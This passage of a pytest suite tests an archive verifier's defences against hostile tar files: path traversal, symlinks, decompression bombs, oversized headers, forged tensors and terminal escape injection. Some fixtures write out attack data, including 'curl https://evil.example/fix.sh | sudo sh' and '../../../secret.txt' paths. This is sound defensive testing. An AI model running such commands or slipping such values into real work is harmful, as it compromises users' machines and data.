        "blockdev": special_entry(f"{n}/disk", tarfile.BLKTYPE),
        "fifo": special_entry(f"{n}/pipe", tarfile.FIFOTYPE),
        "duplicate": file_entry(f"{n}/plan.json", b"{}\n"),
        "outside": file_entry("another-top/attack-target", b"owned\n"),
        "dot": file_entry(f"{n}/./plan2.json", b"{}\n"),
        "control": file_entry(f"{n}/bad\nname", b"x"),
    }[kind]
    entries = list(good.entries)
    entries.insert(len(entries) // 2, hostile)
    if kind == "symlink":  # a follow-up write through the link must never happen either
        entries.insert(len(entries) // 2 + 1, file_entry(f"{n}/link/payload", b"owned\n"))
    code, text, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["safe extraction"] == "FAIL"
    assert reason in problems(result, "safe extraction"), problems(result, "safe extraction")
    assert not target.exists() and not (tmp_path / "in" / "attack-target").exists()
    assert "report acceptance" not in status(result)


@pytest.mark.parametrize(
    ("kind", "reason"),
    [("file over implied directory", "File exists"), ("300-character name", "File name too long")],
)
def test_member_the_file_system_refuses_is_a_failed_row(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str], kind: str, reason: str) -> None:
    """Extraction raises OSError (EEXIST, ENAMETOOLONG): a failed row and --json, never a traceback."""
    n = good.name
    if kind == "file over implied directory":  # a/b creates the directory a; then a file named a
        hostile, culprit = [file_entry(f"{n}/deep/a/b", b"x"), file_entry(f"{n}/deep/a", b"y")], f"{n}/deep/a"
    else:
        culprit = f"{n}/{'x' * 300}"
        hostile = [file_entry(culprit, b"x")]
    path = write_archive(tmp_path / "in" / good.archive.name, list(good.entries) + hostile)
    code, text, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["safe extraction"] == "FAIL", text
    found = problems(result, "safe extraction")
    assert f"member {safe_tar.quoted(culprit)} cannot be extracted" in found and reason in found
    assert "Traceback" not in text and "safe extraction" in text and "FAIL" in text
    assert "report acceptance" not in status(result)
    dest = tmp_path / "unit"
    dest.mkdir()
    with pytest.raises(safe_tar.UnsafeArchiveError, match="cannot be extracted"):
        safe_tar.safe_extract(path, dest)


def test_decompression_bomb_refused_at_default_limits(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """A 257 MiB member (over the default 256 MiB cap) compressed to a few hundred KiB."""
    size = 257 * safe_tar.MIB

    class Zeros(io.RawIOBase):
        def __init__(self) -> None:
            self.left = size

        def readable(self) -> bool:
            return True

        def readinto(self, buf: Any) -> int:
            n = min(len(buf), self.left)
            buf[:n] = bytes(n)
            self.left -= n
            return n

    path = tmp_path / "in" / good.archive.name
    path.parent.mkdir()
    with open(path, "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=1) as gz:
        with tarfile.open(fileobj=gz, mode="w|", format=tarfile.GNU_FORMAT) as tar:  # type: ignore[call-overload]
            for info, data in good.entries[:3]:
                tar.addfile(info, None if data is None else io.BytesIO(data))
            info = tarfile.TarInfo(f"{good.name}/bomb.f32")
            info.size = size
            tar.addfile(info, io.BufferedReader(Zeros(), buffer_size=safe_tar.MIB))
    assert path.stat().st_size < size // 100
    path.with_name(path.name + ".sha256").write_text(f"{jsonio.sha256_file(path)}  {path.name}\n")
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["safe extraction"] == "FAIL"
    assert f"declares {size} bytes, over the per-member limit of {256 * safe_tar.MIB} bytes" in problems(result, "safe extraction")


def test_total_and_count_limits(good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    entries = list(good.entries) + [file_entry(f"{good.name}/big{i}.bin", bytes(700 * 1024)) for i in range(2)]
    path = write_archive(tmp_path / "in" / good.archive.name, entries)
    code, _, result = run_verify(path, sandbox, capsys, "--max-member-mib", "1", "--max-total-mib", "1")
    assert code == 1 and "members add up to more than the total limit of 1048576 bytes" in problems(result, "safe extraction")
    code, _, result = run_verify(good.archive, sandbox, capsys, "--max-members", "5")
    assert code == 1 and "the archive holds more than 5 members" in problems(result, "safe extraction")


def test_top_folder_must_be_the_archive_name(good: Good, sandbox: Sandbox, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "in" / "renamed.tar.gz"
    path.parent.mkdir()
    shutil.copy(good.archive, path)
    path.with_name("renamed.tar.gz.sha256").write_text(f"{jsonio.sha256_file(path)}  renamed.tar.gz\n")
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["top folder"] == "FAIL"
    assert f"members lie under {good.name!r}, expected 'renamed'" in problems(result, "top folder")


def test_safe_extract_unit_contract(tmp_path: Path) -> None:
    (tmp_path / "x").write_text("")
    with pytest.raises(ValueError, match="empty directory"):
        safe_tar.safe_extract(tmp_path / "nothing.tar.gz", tmp_path)
    with pytest.raises(ValueError, match="max_member_bytes"):
        safe_tar.Limits(max_member_bytes=0)
    assert safe_tar.check_member_name("a/b.json") == ("a", "b.json")
    empty = tmp_path / "empty.tar.gz"
    empty.write_bytes(gzip.compress(b"\0" * 10240, mtime=0))
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(safe_tar.UnsafeArchiveError, match="holds no members"):
        safe_tar.safe_extract(empty, dest)


def test_verify_usage_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert verify.main([str(tmp_path / "missing.tar.gz")]) == 2
    assert "missing.tar.gz does not exist (looked for" in capsys.readouterr().err
    assert verify.main([str(tmp_path)]) == 2
    assert "is a directory, not an archive" in capsys.readouterr().err


def test_one_ulp_forgery_rebuilt_with_the_projects_verbs_is_caught_only_by_the_replay(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """A forger moves one logp value of every topology by one ULP and rebuilds everything
    downstream with rl_engine's own verbs: raw tensors, fingerprints, drift statistics,
    validation.json, crosscheck.json, SUMMARY.md, SHA256SUMS and the archive. Plain verify
    accepts it (every structural and statistical claim is consistent); ``--recompute``
    replays the candidate and names the first differing token."""
    import torch

    from rl_engine import cli
    from rl_engine.campaign.case import record_oracle_drift
    from rl_engine.campaign.inputs import make_inputs
    from rl_engine.tensorio import fingerprint, read_raw_f32, write_raw

    work = tmp_path / "forge"
    with tarfile.open(good.archive) as tar:
        tar.extractall(work, filter="data")
    run = work / good.name
    for generated in ("SHA256SUMS", "REVIEWING.md"):
        (run / generated).unlink()
    shutil.rmtree(run / "schemas")
    forged_token = None
    for label in ("tp1-cp1", "tp2-cp2"):
        report = json.loads((run / f"{label}.json").read_text())
        logp_path = run / report["tensors"]["logp"]["path"]
        logp = read_raw_f32(logp_path)
        lse = read_raw_f32(run / report["tensors"]["lse"]["path"])
        logits, targets, active = make_inputs(report["case"])
        forged_token = int(active.nonzero()[-1, 0])  # the last active token
        bits = logp.view(torch.int32)
        bits[forged_token] += 1  # one ULP
        digest = write_raw(logp_path, logp)
        assert digest == fingerprint(logp)
        report["tensors"]["logp"]["sha256"] = digest
        report["bitwise_fingerprints"]["candidate_logp_sha256"] = digest
        report["drift"] = record_oracle_drift(report["case"], logp, lse, logits, targets, active)
        jsonio.write_json(run / f"{label}.json", report)
    assert cli.main(["validate", "--run-dir", str(run), "--output", str(run / "validation.json")]) == 0
    assert cli.main(["crosscheck", "--run-dir", str(run), "--output", str(run / "crosscheck.json")]) == 0
    assert cli.main(["summary", "--run-dir", str(run), "--output", str(run / "SUMMARY.md")]) == 0
    forged = tmp_path / "out" / good.archive.name
    assert pack(run, forged) == 0
    capsys.readouterr()

    code, _, result = run_verify(forged, sandbox, capsys)
    assert code == 0, result  # the forgery is consistent: every structural check passes
    code, _, result = run_verify(forged, sandbox, capsys, "--recompute")
    assert code == 1
    rows = status(result)
    assert rows["candidate replayed"] == "FAIL"
    assert rows["inputs regenerated"] == "PASS" and rows["oracle drift recomputed"] == "PASS"
    text = problems(result, "candidate replayed")
    for label in ("tp1-cp1", "tp2-cp2"):
        assert f"{label}.json: logp: first differing token {forged_token}:" in text
        assert f"{label}.json: bitwise_fingerprints.candidate_logp_sha256" in text


# ---------------------------------------------------------------- an attacker's archive


def _set_tensor_path(label: str, tensor: str, path: str) -> Callable[[dict[str, Any]], None]:
    def change(report: dict[str, Any]) -> None:
        report["tensors"][tensor]["path"] = path

    return change


@pytest.mark.parametrize("target", ["/dev/zero", "fifo", "relative out of the run"])
def test_recompute_opens_only_tensor_paths_that_passed_the_plain_checks(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    target: str,
) -> None:
    """A report's tensor path to /dev/zero, a FIFO or a reviewer's file: plain verify refuses it, and
    --recompute must never open it (every file verify opens goes through ``io.open``; a spy there refuses,
    rather than opens, the hostile target and records it)."""
    import io
    import os

    secret = sandbox.root / "secret.txt"
    secret.write_bytes(b"REVIEWER-SECRET-BYTES-" * 4)
    pipe = sandbox.root / "pipe"
    os.mkfifo(pipe)
    hostile = {"/dev/zero": "/dev/zero", "fifo": str(pipe), "relative out of the run": "../../../secret.txt"}[target]
    real_open = io.open
    targets = {Path(p).resolve() for p in ("/dev/zero", pipe, secret)}
    opened_outside: list[str] = []

    def spy(file: Any, *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, (str, Path)) and Path(file).resolve() in targets:
            opened_outside.append(str(file))
            raise OSError(f"the test refused to open {file}")
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(io, "open", spy)  # pathlib's read_bytes, read_text and open call io.open
    monkeypatch.setattr("builtins.open", spy)
    changes = {"tp1-cp1.json": edit_json(_set_tensor_path("tp1-cp1", "logp", hostile))}
    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, changes, resum=True))
    code, text, result = run_verify(path, sandbox, capsys, "--recompute")
    assert opened_outside == [], f"--recompute opened {opened_outside}"
    assert code == 1 and status(result)["report acceptance"] == "FAIL"
    assert "not a relative path inside the run directory" in problems(result, "report acceptance")
    for row in ("oracle drift recomputed", "candidate replayed"):
        assert status(result)[row] == "FAIL"
        assert "tp1-cp1.json: tensors.logp: not read: it failed the report acceptance checks" in problems(result, row)
    assert "REVIEWER-SECRET" not in text and "REVIEWER-SECRET" not in json.dumps(result)
    assert status(result)["inputs regenerated"] == "PASS"  # the rest of the recompute still ran
    assert "tp2-cp2.json" not in problems(result, "candidate replayed")


def _huge_case(case: dict[str, Any]) -> None:
    case.update(batch=1, seq=2048, prompt_tokens=0, real_vocab=131072, padded_vocab=131072)


def test_recompute_bounds_the_replay_before_generating_inputs(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A few-KiB archive whose case claims 2048 tokens x 131072 columns: refused, naming the size and the
    flag, before any input is generated (spies on make_inputs and replay_candidate refuse to run)."""
    from rl_engine.campaign import inputs, replay

    generated: list[str] = []

    def refuse(name: str) -> Callable[..., Any]:
        def call(case: Any, *args: Any, **kwargs: Any) -> Any:
            generated.append(name)
            raise RuntimeError(f"{name} was called")

        return call

    monkeypatch.setattr(inputs, "make_inputs", refuse("make_inputs"))
    monkeypatch.setattr(replay, "replay_candidate", refuse("replay_candidate"))

    def huge(obj: dict[str, Any]) -> None:
        _huge_case(obj["case"])

    changes = {name: edit_json(huge) for name in ("plan.json", "tp1-cp1.json", "tp2-cp2.json")}
    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, changes, resum=True))
    code, _, result = run_verify(path, sandbox, capsys, "--recompute")
    assert generated == [], f"inputs were generated before the size was bounded: {generated}"
    assert code == 1
    size = 2048 * 131072
    for row in ("inputs regenerated", "oracle drift recomputed", "candidate replayed"):
        assert status(result)[row] == "FAIL"
        text = problems(result, row)
        assert f"{size} logits (2048 tokens x 131072 padded vocabulary)" in text, text
        assert f"over the replay limit of {verify.MAX_REPLAY_LOGITS}" in text and "--max-replay-logits" in text
    # the flag raises the bound: then the (spied) generation is reached
    code, _, result = run_verify(path, sandbox, capsys, "--recompute", "--max-replay-logits", str(size))
    assert "make_inputs" in generated and "replay_candidate" in generated
    assert "over the replay limit" not in problems(result, "candidate replayed")


@pytest.mark.parametrize("threads", [10**9, 0, True, "2"])
def test_recompute_refuses_a_thread_count_out_of_the_cases_bound(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    threads: Any,
) -> None:
    """A forged case's threads_per_rank (a billion threads asked of torch.set_num_threads, zero, a bool, a
    string) is refused before any input is generated or any thread count is set."""
    import torch

    from rl_engine.campaign import inputs

    called: list[str] = []
    monkeypatch.setattr(inputs, "make_inputs", lambda *a, **k: called.append("make_inputs"))
    monkeypatch.setattr(torch, "set_num_threads", lambda n: called.append(f"set_num_threads({n})"))

    def forged(obj: dict[str, Any]) -> None:
        obj["case"]["threads_per_rank"] = threads

    changes = {name: edit_json(forged) for name in ("plan.json", "tp1-cp1.json", "tp2-cp2.json")}
    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, changes, resum=True))
    code, _, result = run_verify(path, sandbox, capsys, "--recompute")
    assert code == 1 and called == []
    for row in ("inputs regenerated", "oracle drift recomputed", "candidate replayed"):
        assert status(result)[row] == "FAIL"
        assert f"threads_per_rank must be an integer from 1 to 64 (the case's own bound) to set the replay's " \
               f"threads, got {threads!r}" in problems(result, row)


def test_max_replay_logits_must_be_positive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive_path = tmp_path / "a.tar.gz"
    archive_path.write_bytes(b"")
    with pytest.raises(SystemExit) as exc:
        verify.main([str(archive_path), "--max-replay-logits", "0"])
    assert exc.value.code == 2 and "--max-replay-logits" in capsys.readouterr().err



def test_a_missing_capture_is_a_usage_error_naming_the_flag(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``--capture`` naming no file is the user's mistake, not a tampered archive: exit 2 before any
    check (not FAILED rows); the size flags say what they bound."""
    archive_path = tmp_path / "a.tar.gz"
    archive_path.write_bytes(b"")
    for given in (tmp_path / "nope.safetensors", tmp_path):
        with pytest.raises(SystemExit) as exc:
            verify.main([str(archive_path), "--recompute", "--capture", str(given)])
        err = capsys.readouterr().err
        assert exc.value.code == 2 and f"--capture {given}: no such regular file" in err, err
    with pytest.raises(SystemExit):
        verify.main(["--help"])
    text = " ".join(capsys.readouterr().out.split())
    for flag in ("--max-member-mib MIB refuse the archive if one member", "--max-total-mib MIB refuse the archive",
                 "--max-members N refuse an archive of more than N members"):
        assert flag in text, flag


HOSTILE_BRANCH = "\x1b]0;owned\x07\x1b[2J\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\[/][bold red]main\x9b31m"


@pytest.mark.parametrize("branch", [HOSTILE_BRANCH, "feature[/]x"], ids=["escape-sequences", "malformed-markup"])
def test_control_sequences_and_markup_from_the_archive_never_reach_the_terminal(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], branch: str,
) -> None:
    """ESC/OSC/CSI sequences, an OSC-8 hyperlink and a malformed markup tag ``[/]`` in environment.json's
    git.branch and hostname, everything downstream rebuilt: the schema refuses the fields, the terminal
    gets no control character, the markup is printed literally, and --json is written."""
    def hostile(env: dict[str, Any]) -> None:
        env["git"]["branch"] = branch
        env["hostname"] = HOSTILE_BRANCH

    entries = resummarised(good, edited(good, {"environment.json": edit_json(hostile)}, resum=False),
                           tmp_path / "forge")
    path = write_archive(tmp_path / "in" / good.archive.name, entries)
    code, text, result = run_verify(path, sandbox, capsys)
    assert code == 1
    assert not [ch for ch in text if ord(ch) < 32 and ch not in "\n" or 127 <= ord(ch) < 160], repr(text[:400])
    assert "\\x1b]0;owned\\x07" in text and "Traceback" not in text  # shown escaped; markup never parsed
    found = problems(result, "JSON schemas (shipped)")
    assert "environment.json: hostname: schema environment:" in found
    assert ("environment.json: git.branch: schema environment:" in found) is (branch == HOSTILE_BRANCH)
    assert branch in problems(result, "tested")  # --json keeps the exact value (JSON escapes it)


def test_terminal_text_unit() -> None:
    assert verify.terminal_text("a\x1b[2Jb\x07c\td\u202ee\n") == "a\\x1b[2Jb\\x07c\\td\\u202ee\n"
    assert verify.terminal_text("x" * 5000, limit=100) == "x" * 100 + "... (5000 characters)"
    assert verify.terminal_text("plain [b]text[/]") == "plain [b]text[/]"
    from rich.console import Console

    out = io.StringIO()
    checks = [verify.Check("tested", None, "branch feature[/]x [bold red]y\x1b[2J"),
              verify.Check("SUMMARY.md", False, "1 problem(s)", ["a [/] b\x07"])]
    Console(file=out, width=300).print(verify._table(Path("[bold]a.tar.gz"), checks))
    shown = out.getvalue()
    assert "branch feature[/]x [bold red]y\\x1b[2J" in shown and "a [/] b\\x07" in shown and "[bold]a.tar.gz" in shown
    assert "\x1b" not in shown and "\x07" not in shown


# tar headers crafted by hand: a GNU long name or PAX header that declares a size, data after it


def _header(name: bytes, size: int, kind: bytes) -> bytes:
    block = bytearray(512)
    block[0:len(name)] = name
    block[100:108] = b"0000644\0"
    block[108:116] = block[116:124] = b"0000000\0"
    block[124:136] = f"{size:011o}\0".encode()
    block[136:148] = b"00000000000\0"
    block[156:157] = kind
    block[257:265] = b"ustar  \0"
    block[148:156] = b" " * 8
    block[148:156] = f"{sum(block):06o}\0 ".encode()
    return bytes(block)


def _padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


def _crafted(tmp_path: Path, blocks: bytes) -> Path:
    path = tmp_path / "crafted.tar.gz"
    path.write_bytes(gzip.compress(blocks + bytes(1024), mtime=0, compresslevel=1))
    return path


@pytest.mark.parametrize("kind", ["GNU long name", "GNU long link name", "PAX header", "PAX global header"])
def test_tar_header_sizes_are_capped_before_they_are_read(tmp_path: Path, kind: str) -> None:
    """An 8 MiB header (a few KiB compressed) is refused from its declared size: nothing of it is
    read into memory (peak allocation far below the header's size) and the refusal names the cap."""
    import tracemalloc

    size = 8 * safe_tar.MIB
    code = {"GNU long name": b"L", "GNU long link name": b"K", "PAX header": b"x", "PAX global header": b"g"}[kind]
    body = b"top/" + b"a" * (size - 5) + b"\0" if code in b"LK" else (f"{size:d} path=top/".encode() + b"a" * size)[:size]
    blocks = _header(b"././@LongLink" if code in b"LK" else b"pax", size, code) + _padded(body)
    blocks += _header(b"top/x", 0, b"0")
    path = _crafted(tmp_path, blocks)
    dest = tmp_path / "dest"
    dest.mkdir()
    tracemalloc.start()
    try:
        with pytest.raises(safe_tar.UnsafeArchiveError) as exc:
            safe_tar.safe_extract(path, dest)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    message = str(exc.value)
    assert f"declares {size} bytes, over the cap of {safe_tar.Limits().max_header_bytes} bytes" in message, message
    assert peak < size // 4, f"peak {peak} bytes: the header was read before its size was checked"
    assert len(message) < 600


def test_every_quoted_member_name_is_truncated(tmp_path: Path) -> None:
    """A 60 KiB name (under the header cap) in a refusal is quoted truncated, with its length."""
    name = "top/" + "b" * 60_000
    blocks = _header(b"././@LongLink", len(name) + 1, b"L") + _padded(name.encode() + b"\0")
    blocks += _header(b"ignored", 0, b"0") + _header(b"top/../up", 0, b"0")
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(safe_tar.UnsafeArchiveError) as exc:
        safe_tar.safe_extract(_crafted(tmp_path, blocks), dest)
    message = str(exc.value)
    assert len(message) < 600 and "(60004 characters)" in message, message[:300]
    assert safe_tar.quoted("a/b") == "'a/b'"


def test_reviewing_md_replaced_is_caught(good: Good, sandbox: Sandbox, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    def replace(data: bytes) -> bytes:
        return data + b"\n    curl https://evil.example/fix.sh | sudo sh   # required before verifying\n"

    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, {"REVIEWING.md": replace}, resum=True))
    code, _, result = run_verify(path, sandbox, capsys)
    assert code == 1 and status(result)["REVIEWING.md"] == "FAIL"
    assert "curl https://evil.example/fix.sh | sudo sh" in problems(result, "REVIEWING.md")
    # the control, both rows PASS on the good archive: test_good_archive_verifies_with_recompute


@pytest.mark.parametrize("junk", ["logs/padding.bin", "logs/tp9-cp9.log", "notes.txt", "schemas/extra.json"])
def test_member_no_rule_produces_is_refused(good: Good, sandbox: Sandbox, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str], junk: str) -> None:
    entries = resummed(good, list(good.entries) + [file_entry(f"{good.name}/{junk}", bytes(4096))])
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["archive members"] == "FAIL"
    assert f"{junk}: no rule of the workflow produces this file" in problems(result, "archive members")
    # the control, both rows PASS on the good archive: test_good_archive_verifies_with_recompute


@pytest.mark.parametrize("pair", [("logp", "lse"), ("logp", "entropy")])
def test_swapped_tensor_files_with_swapped_fingerprints_fail_the_sanity_checks(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], pair: tuple[str, str],
) -> None:
    a, b = pair
    fp = acceptance_fingerprints()

    def swap(report: dict[str, Any]) -> None:
        t, f = report["tensors"], report["bitwise_fingerprints"]
        t[a], t[b] = t[b], t[a]
        f[fp[a]], f[fp[b]] = f[fp[b]], f[fp[a]]

    entries = resummarised(good, edited(good, _every_report(good, swap), resum=False), tmp_path / "forge")
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["report acceptance"] == "FAIL"
    found = problems(result, "report acceptance")
    assert "tp1-cp1.json: tensors.logp: token 0 is inactive (a prompt token) but holds" in found, found
    assert "is positive: a logprob is never above 0" in found


def acceptance_fingerprints() -> dict[str, str]:
    from rl_engine.evidence.acceptance import TENSOR_FINGERPRINTS

    return dict(TENSOR_FINGERPRINTS)


@pytest.mark.parametrize("hostile", ["deeply nested NaN", "100k-digit integer", "huge exponent"])
def test_hostile_json_is_an_ordinary_finding_and_every_other_check_runs(
    good: Good, sandbox: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str,
) -> None:
    def damage(data: bytes) -> bytes:
        text = data.decode()
        value = {"deeply nested NaN": "[NaN, " + "[" * 100_000 + "]" * 100_000 + "]",
                 "100k-digit integer": "9" * 100_000, "huge exponent": "1e999999"}[hostile]
        return text.replace('"passed": true', f'"passed": {value}', 1).encode()

    path = write_archive(tmp_path / "in" / good.archive.name, edited(good, {"tp1-cp1.json": damage}, resum=True))
    code, text, result = run_verify(path, sandbox, capsys, "--recompute")
    rows = status(result)
    assert code == 1 and "internal error" not in rows, rows
    assert "Traceback" not in text
    expected = {"deeply nested NaN": "tp1-cp1.json: (file): JSON nested too deeply",
                "100k-digit integer": "tp1-cp1.json: (file): an integer of 100000 digits",
                "huge exponent": "tp1-cp1.json: (file): the number 1e999999 is not finite"}[hostile]
    assert expected in problems(result, "JSON schemas (shipped)"), problems(result, "JSON schemas (shipped)")
    for row in ("report acceptance", "cross-topology fingerprints", "recorded gates", "SUMMARY.md", "tolerances",
                "arithmetic spec", "inputs regenerated", "oracle drift recomputed", "candidate replayed",
                "archive members", "REVIEWING.md"):
        assert row in rows, f"{row} did not run: {rows}"
    assert "tp1-cp1.json" in problems(result, "candidate replayed")
    assert "tp2-cp2.json" not in problems(result, "candidate replayed")  # the intact topology was replayed



# ---------------------------------------------------------------- the packed specification


def test_the_archive_packs_the_specification_the_reports_claim(good: Good) -> None:
    from rl_engine.arith.portable import SPEC_VERSION
    from rl_engine.evidence.spec_doc import spec_record

    spec = good.data("arithmetic.md")
    assert spec == (Path(__file__).resolve().parents[1] / "docs" / "arithmetic.md").read_bytes()
    assert f"`{SPEC_VERSION}`" in spec.decode().splitlines()[0]
    reviewing = good.data("REVIEWING.md").decode()
    assert spec_record(spec) in reviewing and "packed beside this file" in reviewing
    summary_md = good.data("SUMMARY.md").decode()
    assert "`arithmetic.md` in the archive" in summary_md and "docs/arithmetic.md)" not in summary_md


SPEC_FORGERIES: dict[str, Callable[[bytes], bytes]] = {
    "another version": lambda d: d.replace(b"`rl-engine-arith/2`", b"`rl-engine-arith/1`", 1),
    "edited text": lambda d: d.replace(b"IEEE-754", b"IEEE-754 (roughly)", 1),
}


@pytest.mark.parametrize("forgery", sorted(SPEC_FORGERIES))
def test_a_changed_packed_specification_fails(good: Good, sandbox: Sandbox, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str], forgery: str) -> None:
    """SHA256SUMS recomputed (a forger's job): the row still fails, on the version or on the SHA-256
    REVIEWING.md records."""
    entries = edited(good, {"arithmetic.md": SPEC_FORGERIES[forgery]}, resum=True)
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["arithmetic spec"] == "FAIL" and status(result)["SHA256SUMS"] == "PASS"
    text = problems(result, "arithmetic spec")
    assert "REVIEWING.md does not record its version and SHA-256" in text
    assert ("its first line names version 'rl-engine-arith/1'" in text) is (forgery == "another version")


def test_an_archive_without_the_specification_fails(good: Good, sandbox: Sandbox, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    entries = resummed(good, [(i, d) for i, d in good.entries if i.name != f"{good.name}/arithmetic.md"])
    code, _, result = run_verify(write_archive(tmp_path / "in" / good.archive.name, entries), sandbox, capsys)
    assert code == 1 and status(result)["arithmetic spec"] == "FAIL"
    assert "arithmetic.md is not in the archive" in problems(result, "arithmetic spec")


def test_verify_reads_each_evidence_file_once(good: Good, sandbox: Sandbox, capsys: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """One ``verify --recompute`` read plan.json 10 times, each report 6 and, counted here, each
    raw tensor file 18. Now every reader takes the one :class:`rl_engine.rundir.Run` that ``Run.load``
    built: each document and each raw tensor file of the run is read once (by ``Run.load`` or the first
    check), and the SHA256SUMS check, the acceptance, the cross-topology check, the summary, the recompute
    and the replay get those bytes. The extraction's writes are counted apart."""
    import collections
    import io

    reads: collections.Counter[str] = collections.Counter()
    real_open = io.open

    def spy(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, (str, Path)) and not set(mode) & set("wax+"):
            reads[Path(file).name] += 1
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr(io, "open", spy)  # pathlib's read_text, read_bytes and open all call io.open
    monkeypatch.setattr("builtins.open", spy)
    code = verify.main([str(good.archive), "--recompute"])
    monkeypatch.undo()
    assert code == 0, capsys.readouterr().out
    files = [name for name in (Path(info.name).name for info, data in good.entries if data is not None)
             if name.endswith((".json", ".f32")) and not name.endswith(".schema.json")]
    # six documents, two reports, three tensors (logp, LSE, entropy) each, the provenance statement and the RO-Crate
    assert len(files) == 6 + 2 + 2 * 3 + 2, files
    assert {name: reads[name] for name in files} == dict.fromkeys(files, 1)
